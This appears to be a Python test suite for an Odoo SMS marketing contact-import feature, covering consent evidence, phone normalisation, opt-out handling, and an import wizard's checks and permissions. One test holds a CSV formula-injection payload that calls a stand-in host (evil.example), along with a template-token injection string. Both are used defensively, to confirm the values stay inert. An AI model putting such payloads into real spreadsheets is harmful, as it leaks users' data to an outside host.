import base64
import csv
import io

from odoo.exceptions import AccessError, UserError
from odoo.tests import tagged
from odoo.tools import SQL

from odoo.addons.web.controllers.export import CSVExport

from ..engine import contact_file, contact_import
from .common import SmsMarketingCase
from .contact_rows import GOOD, read, to_csv


@tagged("post_install", "-at_install")
class TestContactImport(SmsMarketingCase):
    def load(self, *rows):
        content = read(self.env, to_csv(*rows))
        self.assertFalse(content.errors)
        return contact_import.load(self.env, content.rows, self.type)

    def partner(self, ref="SMS-1"):
        return self.env["res.partner"].search([("ref", "=", ref)])

    def state_of(self, number):
        return (
            self.env["sms.marketing.subscription"]
            .search([("number", "=", number), ("type_id", "=", self.type.id)])
            .state
        )

    def log_of(self, number):
        return self.env["sms.marketing.consent"].search([("number", "=", number)])

    def test_contact_and_evidence(self):
        result = self.load({**GOOD, "wording": "I agree to texts."})
        self.assertEqual((result.created, result.updated, result.warnings), (1, 0, []))
        partner = self.partner()
        self.assertEqual(partner.mobile_e164, "+13035550101")
        self.assertEqual((partner.tz, partner.country_id.code), ("America/Denver", "US"))
        self.assertTrue(partner.sms_marketing)
        line = self.log_of("+13035550101")
        self.assertEqual((line.method, line.legal_basis), ("import", "web_consent"))
        self.assertEqual(line.explanation, GOOD["evidence"])
        self.assertEqual(line.wording, "I agree to texts.")
        self.assertEqual(str(line.occurred_at), "2026-01-31 00:00:00")
        self.assertEqual(self.send(self.message(partner)).state, "sent")

    def test_marketing_without_consent_gets_nothing(self):
        self.load({"name": "Ann", "ref": "SMS-1", "mobile": "+13035550101", "marketing": "yes"})
        recipient = self.send_to(self.partner())
        self.assertEqual((recipient.state, recipient.reason), ("skipped", "no_consent"))

    def test_number_that_cannot_be_is_kept_without_consent(self):
        result = self.load({**GOOD, "mobile": "555-CALL-ME"})
        self.assertEqual(result.created, 1)
        self.assertEqual(self.partner().mobile, "555-CALL-ME")
        self.assertFalse(self.partner().mobile_e164)
        self.assertEqual([column for _line, column, _text in result.warnings], ["mobile", "mobile"])
        self.assertFalse(result.consents)

    def test_national_number_is_read_as_the_contact_reads_it(self):
        row = {**GOOD, "mobile": "(303) 555-0101", "country": ""}
        result = self.load(row)
        # Without a country the company's counts.
        self.assertEqual(self.partner().mobile_e164, "+13035550101")
        self.assertEqual(result.warnings, [])
        self.assertEqual(self.state_of("+13035550101"), "subscribed")
        french = self.load({**GOOD, "ref": "SMS-2", "mobile": "06 12 34 56 78", "country": "fr"})
        self.assertEqual(french.warnings, [])
        self.assertEqual(self.partner("SMS-2").mobile_e164, "+33612345678")

    def test_unknown_country_and_language_are_told(self):
        result = self.load({**GOOD, "country": "XX", "lang": "tlh_KX"})
        self.assertEqual([column for _line, column, _text in result.warnings], ["country", "lang"])
        self.assertTrue(self.partner())

    def test_consent_for_both_numbers(self):
        self.load({**GOOD, "phone": "+13035550102", "consent_for": "both"})
        self.assertEqual(self.state_of("+13035550101"), "subscribed")
        self.assertEqual(self.state_of("+13035550102"), "subscribed")

    def test_consent_falls_to_the_phone_where_there_is_no_mobile(self):
        self.load({**GOOD, "mobile": "", "phone": "+13035550102"})
        self.assertEqual(self.state_of("+13035550102"), "subscribed")

    def test_second_import_updates_by_ref(self):
        self.load({**GOOD, "city": "Denver"})
        partner = self.partner()
        result = self.load({**GOOD, "name": "Ann Cee", "city": "", "marketing": ""})
        self.assertEqual((result.created, result.updated), (0, 1))
        self.assertEqual(self.partner(), partner)
        self.assertEqual(partner.name, "Ann Cee")
        self.assertEqual(partner.city, "Denver", "an empty cell says nothing")
        self.assertTrue(partner.sms_marketing, "an empty cell says nothing")
        self.load({**GOOD, "marketing": "no"})
        self.assertFalse(partner.sms_marketing, "“no” says no")

    def test_archived_contact_is_not_doubled(self):
        self.load(GOOD)
        partner = self.partner()
        partner.active = False
        result = self.load({**GOOD, "city": "Denver"})
        self.assertEqual((result.created, result.updated), (0, 1))
        self.assertFalse(partner.active)

    def test_second_import_does_not_undo_a_later_opt_out(self):
        self.load(GOOD)
        self.unsubscribe("+13035550101")
        result = self.load(GOOD)
        self.assertEqual(self.state_of("+13035550101"), "unsubscribed")
        self.assertFalse(result.consents)
        self.assertEqual([column for _line, column, _text in result.warnings], ["consent"])
        self.assertIn("opted out later", result.warnings[0][2])

    def test_opt_out_in_the_file(self):
        self.load(GOOD)
        self.load({**GOOD, "consent": "unsubscribed", "consent_date": "2026-02-01"})
        self.assertEqual(self.state_of("+13035550101"), "unsubscribed")
        self.assertEqual(self.log_of("+13035550101")[0].state, "unsubscribed")

    def test_rows_without_ref_are_known_by_name_and_numbers(self):
        row = {"name": "No ref", "mobile": "+13035550101", "email": "no@example.com"}
        self.load(row)
        self.assertEqual(self.load(row).unchanged, 1)
        self.assertEqual(self.load({**row, "city": "Denver"}).updated, 1)
        for other in (
            {**row, "name": "Her husband"},
            {**row, "mobile": "+13035550102"},
            {"name": "No ref"},
            {"name": "No ref"},
        ):
            self.assertEqual(self.load(other).created, 1, other)

    def test_same_file_again_changes_nothing(self):
        rows = [
            {**GOOD, "wording": "I agree.", "email": "Ann@example.com", "lang": "en_US"},
            {**GOOD, "ref": "", "name": "No ref", "mobile": "+13035550102", "consent": "pending"},
            {**GOOD, "ref": "SMS-3", "mobile": "+13035550103", "phone": "+13035550104"}
            | {"consent_for": "both", "marketing": ""},
            {**GOOD, "ref": "SMS-4", "mobile": "+13035550105", "consent": "unsubscribed"}
            | {"consent_date": "", "legal_basis": "", "evidence": "", "marketing": "no"},
        ]
        rows = [{**dict.fromkeys(contact_file.COLUMNS, ""), **row} for row in rows]
        result = self.load(*rows)
        self.assertEqual((result.created, sum(result.consents.values())), (4, 5))
        # Who has confirmed since, or come back by an own text, stays so.
        self.subscribe("+13035550102", method="keyword")
        self.subscribe("+13035550105", method="keyword")
        self.load({**rows[3], "consent_date": "2026-02-01"})
        self.subscribe("+13035550105", method="keyword")
        before = self.everything()
        again = self.load(*rows[:3], {**rows[3], "consent_date": "2026-02-01"})
        self.assertEqual((again.created, again.updated, again.unchanged), (0, 0, 4))
        self.assertEqual((again.consents, again.warnings), ({}, []))
        self.assertEqual(self.everything(), before)
        self.assertEqual(self.state_of("+13035550102"), "subscribed")

    def everything(self):
        """Contacts, consent, and the log, with when they were last written."""
        self.env.flush_all()
        return [
            self.env.execute_query(SQL("SELECT * FROM %s ORDER BY id", SQL.identifier(table)))
            for table in ("res_partner", "sms_marketing_subscription", "sms_marketing_consent")
        ]

    def test_more_rows_than_a_batch(self):
        rows = [
            {**GOOD, "ref": f"SMS-{n}", "mobile": f"+1303{n // 100 + 200}55{n % 100:02d}"}
            for n in range(contact_import.BATCH + 3)
        ]
        steps = []
        content = read(self.env, to_csv(*rows))
        result = contact_import.load(self.env, content.rows, self.type, progress=steps.append)
        self.assertEqual(result.created, contact_import.BATCH + 3)
        self.assertEqual(steps, [contact_import.BATCH, contact_import.BATCH + 3])
        self.assertEqual(sum(result.consents.values()) + len(result.warnings), len(rows))

    def test_formulas_stay_text(self):
        formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
        self.load({**GOOD, "name": formula, "city": "+1+1", "evidence": "@SUM(A1)"})
        partner = self.partner()
        self.assertEqual((partner.name, partner.city), (formula, "+1+1"))
        exported = CSVExport().from_data([], ["Name", "City"], [[partner.name, partner.city]])
        [_header, cells] = csv.reader(io.StringIO(exported))
        for cell in cells:
            self.assertTrue(cell.startswith("'"), cell)
        [recipient] = self.send(self.message(partner, body="Hi {{ object.name }}"))
        self.assertIn("=HYPERLINK", recipient.text)

    def test_value_that_looks_like_a_token_is_no_token(self):
        self.load({**GOOD, "name": "{{ object.email ||| x }}", "email": "secret@example.com"})
        [recipient] = self.send(self.message(self.partner(), body="Hi {{ object.name }}!"))
        self.assertIn("Hi {{ object.email ||| x }}!", recipient.text)
        self.assertNotIn("secret@example.com", recipient.text)


@tagged("post_install", "-at_install")
class TestContactImportWizard(SmsMarketingCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.manager = cls.user("manager_sms", "sms_marketing.group_manager")

    def wizard(self, content, **vals):
        return (
            self.env["sms.marketing.contact.import"]
            .with_user(self.manager)
            .create({"file": base64.b64encode(content), "type_id": self.type.id, **vals})
        )

    def take(self, wizard):
        """Check, then import."""
        wizard.action_check()
        wizard.action_import()

    def test_manager_checks_and_imports(self):
        content = to_csv(GOOD, {**GOOD, "ref": "SMS-2", "consent_date": "soon"})
        wizard = self.wizard(content, list_name="Fair of January")
        wizard.action_check()
        self.assertEqual(wizard.state, "checked")
        self.assertIn("Nothing is written yet", wizard.report)
        self.assertIn("1 contacts created", wizard.report)
        self.assertIn("line 3, consent_date", wizard.report)
        self.assertFalse(wizard.list_id)
        self.assertFalse(self.env["res.partner"].search([("ref", "=", "SMS-1")]))
        wizard.action_import()
        self.assertEqual(wizard.state, "done")
        self.assertIn(
            "1 contacts created, 0 updated, 0 unchanged, 1 consents recorded", wizard.report
        )
        self.assertIn("line 3", wizard.report)
        partner = self.env["res.partner"].search([("ref", "=", "SMS-1")])
        self.assertEqual(wizard.list_id.partner_ids, partner)
        self.assertEqual(wizard.list_id.company_id, self.company)
        line = self.env["sms.marketing.consent"].search([("number", "=", partner.mobile_e164)])
        self.assertEqual(line.user_id, self.manager)

    def test_without_a_name_there_is_no_list(self):
        wizard = self.wizard(to_csv(GOOD))
        self.take(wizard)
        self.assertEqual(wizard.state, "done")
        self.assertFalse(wizard.list_id)

    def test_unreadable_files_are_explained(self):
        for content in (
            b"first,last\nAnn,Bee\n",
            "name\nBjörn\n".encode("latin-1"),
            b"\x00\x01",
            b"\n",
            b"name," + b"a" * 200_000,
        ):
            wizard = self.wizard(content)
            with self.assertRaises(UserError) as caught:
                wizard.action_check()
            self.assertLess(10, len(str(caught.exception)))
            self.assertLess(len(str(caught.exception)), 500)
            self.assertEqual(wizard.state, "new")

    def test_numbers_are_asked_to_confirm(self):
        self.type.double_opt_in = True
        fresh, known, gone = (self.number() for _one in range(3))
        self.subscribe(known)
        self.unsubscribe(gone)
        wizard = self.wizard(
            to_csv(*({**GOOD, "ref": number, "mobile": number} for number in (fresh, known, gone)))
        )
        self.assertTrue(wizard.ask_to_confirm, "as the type wants it, unless it is switched off")
        self.take(wizard)
        states = {
            row.number: row.state
            for row in self.env["sms.marketing.subscription"].search(
                [("number", "in", (fresh, known, gone))]
            )
        }
        self.assertEqual(states, {fresh: "pending", known: "subscribed", gone: "unsubscribed"})
        asked = self.env["sms.marketing.recipient"].search([("kind", "=", "opt_in")])
        self.assertEqual(asked.mapped("number"), [fresh])
        for number in (known, gone):
            self.assertIn(f"{number} is subscribed or opted out: not asked", wizard.report)

    def test_many_problems_are_cut_short(self):
        rows = [{**GOOD, "ref": "", "name": ""} for _ in range(60)]
        wizard = self.wizard(to_csv(*rows))
        wizard.action_check()
        self.assertIn("0 contacts created", wizard.report)
        self.assertIn("… and 10 more.", wizard.report)

    def test_problems_are_a_file(self):
        wizard = self.wizard(
            to_csv(
                {**GOOD, "consent_date": "=1+1"},
                {**GOOD, "ref": "SMS-2", "mobile": "555-CALL-ME"},
                {**GOOD, "ref": "SMS-3"},
            ),
            file_name="fair.csv",
        )
        wizard.action_check()
        self.assertEqual(wizard.problems_file_name, "fair-problems.csv")
        [header, problem, *_others] = checked = self.problems(wizard)
        self.assertEqual(header, ["Line", "Column", "Value", "Problem", "What Was Done"])
        self.assertEqual(problem[:3], ["2", "consent_date", "'=1+1"])
        self.assertEqual(problem[4], "Left out")
        wizard.action_import()
        self.assertEqual(self.problems(wizard), checked, "known before anything is written")
        rows = self.problems(wizard)[1:]
        self.assertEqual(
            [(line, column, done) for line, column, _value, _problem, done in rows],
            [
                ("2", "consent_date", "Left out"),
                ("3", "mobile", "To look at"),
                ("3", "mobile", "To look at"),
            ],
        )
        self.assertEqual(rows[1][2], "555-CALL-ME")

    def problems(self, wizard):
        content = base64.b64decode(wizard.problems_file).decode("utf-8-sig")
        return list(csv.reader(io.StringIO(content, newline="")))

    def test_without_problems_there_is_no_file(self):
        wizard = self.wizard(to_csv(GOOD))
        wizard.action_check()
        self.assertFalse(wizard.problems_file)

    def test_user_may_not(self):
        user = self.user("user_sms", "sms_marketing.group_user,base.group_partner_manager")
        with self.assertRaises(AccessError):
            self.env["sms.marketing.contact.import"].with_user(user).create(
                {"file": base64.b64encode(to_csv(GOOD)), "type_id": self.type.id}
            )
        with self.assertRaises(AccessError):
            self.wizard(to_csv(GOOD)).with_user(user).action_import()
